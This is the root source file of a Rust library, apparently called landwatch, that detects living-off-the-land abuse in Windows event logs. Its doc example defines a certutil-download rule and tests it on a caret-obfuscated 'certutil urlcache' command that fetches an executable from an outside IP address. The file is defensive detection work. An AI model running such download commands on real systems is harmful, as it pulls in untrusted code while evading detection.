//! landwatch finds living-off-the-land tool abuse and credential misuse in
//! Windows event streams.
//!
//! Rules are written in a small language ([`dsl`], documented in
//! `docs/rule-language.md`) and compiled into [`Rules`]: for every field form
//! rules read, one aho-corasick automaton holds every literal of every rule,
//! and each rule knows the *necessary atoms* one of which must be found for it
//! to match. A [`Scanner`] takes events one at a time; a non-matching event
//! costs one pass over the fields rules read, whatever the number of rules.
//!
//! ```
//! use std::sync::Arc;
//! use landwatch::{Event, Level, RulesBuilder, Scanner};
//!
//! let rules = RulesBuilder::new()
//!     .add_source("example.lw", r#"
//!         rule lotl.certutil_download {
//!             title: "Certutil downloads a file"
//!             level: high
//!             tags: attack.t1105, attack.command_and_control
//!             on: process
//!             when: Image endswith '\certutil.exe'
//!                   and CommandLine contains any ('urlcache', 'verifyctl')
//!                   and CommandLine contains 'http'
//!         }
//!     "#)
//!     .build()
//!     .expect("the rule compiles");
//! // Rules are immutable and Send + Sync: share them between scanners.
//! let rules = Arc::new(rules);
//! let mut scanner = Scanner::new(rules.clone());
//!
//! // A Sysmon process-creation event, obfuscated with carets and quotes.
//! let event = br#"{"EventID": 1, "Image": "C:\\Windows\\System32\\certutil.exe",
//!                  "CommandLine": "c^ertutil \"-url\"cache -f http://198.51.100.7/a.exe a.exe"}"#;
//! let detections = scanner.scan_json(event).expect("a JSON object");
//! assert_eq!(detections.len(), 1);
//! let d = &detections[0];
//! assert_eq!(d.rule, "lotl.certutil_download");
//! assert_eq!(d.level, Level::High);
//! // Evidence: the field, the rule's pattern and where it matched.
//! assert!(d.evidence.iter().any(|e| e.field == "CommandLine" && e.matched == "urlcache"));
//!
//! // Events can also be built from fields, by taxonomy name.
//! let ev = Event::from_fields(&[("Image", r"C:\Windows\System32\certutil.exe"),
//!                               ("CommandLine", "certutil -hashfile a.msi SHA256")]);
//! assert!(scanner.scan(&ev).unwrap().is_empty());
//! assert_eq!(scanner.stats().events, 2);
//! ```

pub mod ast;
pub mod builtin;
mod compile;
mod correlate;
pub mod dsl;
mod error;
mod event;
pub mod normalize;
mod scan;
pub mod schema;
pub mod sigma;

pub use ast::{EventKind, Level};
pub use compile::{RuleInfo, RuleKind, Rules, RulesBuilder, RulesSummary, REGEX_SIZE_LIMIT};
pub use correlate::persist::StateError;
pub use correlate::{Prepared, Zones, ZonesError};
pub use dsl::Origin;
pub use error::{EventError, Position, RuleError, RuleErrors};
pub use event::{Event, EventTime, Location, SourceId};
pub use scan::{
    Correlated, Detection, EventRef, Evidence, ScanOptions, ScanStats, Scanner, TimeMissing, Window,
};
pub use schema::Schema;
